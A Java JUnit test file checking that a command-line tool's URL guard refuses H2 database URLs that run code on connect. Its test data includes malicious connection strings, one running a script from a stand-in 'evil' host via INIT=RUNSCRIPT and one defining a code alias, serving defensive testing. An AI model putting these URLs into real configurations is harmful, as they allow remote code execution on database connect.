package io.github.dualwrite.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The tools refuse H2 URLs that run SQL or code on connect (issue 14, item 4). */
class UrlGuardTest {

    @Test
    void riskySettingsAreRefusedPlainUrlsPass() {
        UrlGuard.check("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;MODE=MySQL", "doc");
        UrlGuard.check("jdbc:mariadb://127.0.0.1:3306/points?init=1", "doc");
        assertThatThrownBy(() -> UrlGuard.check("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "doc.yaml"))
                .hasMessageContaining("doc.yaml").hasMessageContaining("INIT");
        assertThatThrownBy(() -> UrlGuard.check("jdbcUrl: jdbc:h2:mem:x;init=create alias x as 'String f(){}'", "new.yaml"))
                .hasMessageContaining("new.yaml");
    }

    @Test
    void theCommandLineRefusesADocumentWithSuchAUrlBeforeConnecting(@TempDir Path dir) throws Exception {
        Path marker = dir.resolve("ran");
        Path script = dir.resolve("x.sql");
        // what an attacker's script would do: here it only leaves a file behind
        Files.writeString(script, "CALL FILE_WRITE(STRINGTOUTF8('ran'), '" + marker.toString().replace('\\', '/') + "');");
        Files.writeString(dir.resolve("new.yaml"), "dataSources: {}\n");
        Path config = dir.resolve("dualwrite.yaml");
        Files.writeString(config, """
                units: {}
                datasources:
                  old: { url: "jdbc:h2:mem:guard;INIT=RUNSCRIPT FROM '%s'", username: sa, password: "" }
                  new: { sharding-yaml: new.yaml }
                """.formatted(script.toString().replace('\\', '/')));
        StringWriter err = new StringWriter();
        int code = Main.run(new String[] {"status", "--config", config.toString()}, new PrintWriter(new StringWriter()),
                new PrintWriter(err));
        assertThat(code).isEqualTo(Main.ERROR);
        assertThat(err.toString()).contains("INIT").contains("refuse");
        assertThat(marker).doesNotExist();
    }
}
